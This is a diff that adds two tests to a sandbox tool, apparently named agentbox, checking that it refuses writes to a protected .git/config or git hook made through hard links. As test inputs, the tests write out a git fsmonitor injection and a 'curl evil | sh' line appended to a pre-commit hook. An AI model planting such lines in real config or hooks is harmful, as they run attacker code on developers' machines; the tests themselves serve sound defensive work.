@@ -464,3 +464,29 @@ def test_protected_paths_exchange_and_replace(ctx):
     assert open(os.path.join(ctx.ws, ".git", "config")).read() == cfg
     for p in (".envrc", ".vscode"):
         assert not os.path.lexists(os.path.join(ctx.ws, p)), "%s left on the host" % p
+
+
+def test_hardlinked_protected_file_refused(ctx):
+    """A protected file with another name (a hard link made while it was not
+    protected) would stay writable through that name: agentbox refuses."""
+    _repo(ctx)
+    cfg = os.path.join(ctx.ws, ".git", "config")
+    other = os.path.join(ctx.ws, "notes.txt")
+    os.link(cfg, other)
+    ctx.on_cleanup(lambda: os.path.exists(other) and os.unlink(other))
+    r = ctx.sandbox("echo '[core] fsmonitor = evil' >> notes.txt; true")
+    assert r.returncode == 125 and "hard links" in r.stderr, describe(r)
+    assert "fsmonitor" not in open(cfg).read(), ".git/config written through a hard link"
+
+
+def test_hardlinked_file_in_protected_dir_refused(ctx):
+    """The same for a file inside a protected directory (.husky/ is protected
+    when present): a hook with a second name in the workspace is refused."""
+    _repo(ctx)
+    hook = ctx.host_file(os.path.join(ctx.ws, ".husky", "pre-commit"), "#!/bin/sh\nexit 0\n", 0o755)
+    if ctx.uid:
+        os.chown(os.path.join(ctx.ws, ".husky"), ctx.uid, ctx.gid)
+    os.link(hook, os.path.join(ctx.ws, "h.txt"))
+    r = ctx.sandbox("echo 'curl evil | sh' >> h.txt; true")
+    assert r.returncode == 125 and "hard links" in r.stderr, describe(r)
+    assert "evil" not in open(hook).read(), "a protected hook was written through a hard link"
